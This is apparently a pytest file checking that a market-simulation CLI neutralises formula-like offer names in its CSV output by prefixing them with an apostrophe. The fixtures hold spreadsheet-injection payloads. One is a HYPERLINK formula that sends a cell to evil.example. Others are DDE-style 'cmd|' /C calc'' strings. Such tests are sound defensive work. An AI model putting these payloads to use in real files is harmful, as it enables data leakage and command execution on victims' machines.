"""The CLI's CSV tables hold offer names from the user's market file: a name that starts
like a formula arrives as text (issue 12, finding 2); the numbers stay numbers."""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import pytest
import typer
import yaml
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "report"))

from _example import make_example

from offerlab.cli._errors import guarded
from offerlab.cli.market import simulate_market_command

app = typer.Typer(pretty_exceptions_enable=False)
app.command("simulate-market")(guarded(simulate_market_command))
app.command("unused")(lambda: None)
runner = CliRunner()
NAMES = {
    "Our Flex Electric": '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
    "Our City Compact": "@SUM(1+9)*cmd|' /C calc'!A0",
    "Rival SUV Abo": "+1+cmd|' /C calc'!A0",
}
# the last also drawn in the plots: "$\\x$" was read as mathtext and no plot was written
STATUS_QUO = {"Keep leasing": "\tKeep leasing", "Buy a used car": "\r-Buy a $\\nosuch$ car"}


@pytest.fixture(scope="module")
def example(tmp_path_factory: pytest.TempPathFactory):
    return make_example(tmp_path_factory.mktemp("example"))


def test_simulate_market_csv_tables_neutralise_offer_names(example, tmp_path) -> None:
    market = yaml.safe_load(example.market_path.read_text(encoding="utf-8"))
    for offer in market["offers"]:
        offer["name"] = NAMES[offer["name"]]
    for alternative in market["status_quo"]:
        alternative["name"] = STATUS_QUO[alternative["name"]]
    market["optimise"]["tiers"] = [NAMES[t] for t in market["optimise"]["tiers"]]
    market.pop("pricing_offer", None)
    path = tmp_path / "market.yaml"
    path.write_text(yaml.safe_dump(market, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "out"
    result = runner.invoke(app, [
        "simulate-market", str(example.answers_path), "--study", str(example.study_path),
        "--market", str(path), "--optimise", "revenue", "--draws", "20", "--out", str(out),
    ])  # fmt: skip
    assert result.exit_code == 0, result.output
    with (out / "shares.csv").open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["alternative"] for r in rows] == [
        "'" + name for name in [*NAMES.values(), *STATUS_QUO.values()]
    ]
    assert sum(float(r["share"]) for r in rows) == pytest.approx(1.0, abs=1e-9)
    with (out / "optimisation.csv").open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    for cell in cells:
        starts_like_a_formula = cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert not starts_like_a_formula or float(cell) == float(cell), cell  # a number
